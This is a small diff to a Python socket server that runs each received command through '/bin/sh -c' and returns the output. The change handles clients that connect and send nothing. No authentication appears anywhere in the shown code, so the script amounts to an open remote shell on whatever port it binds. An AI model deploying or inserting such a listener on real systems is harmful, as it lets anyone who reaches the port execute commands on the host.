@@ -20,7 +20,10 @@ server = socket.create_server(("", int(sys.argv[sys.argv.index("-p") + 1])))
 def serve(client):
     command = b""
     while not command.endswith(b"\\0"):
-        command += client.recv(65536)
+        more = client.recv(65536)
+        if not more:  # who only looked whether anybody listens
+            return client.close()
+        command += more
     out = client.fileno()
     done = subprocess.run(["/bin/sh", "-c", command[:-1].decode()], stdin=subprocess.DEVNULL,
                           stdout=out, stderr=out, start_new_session=True)
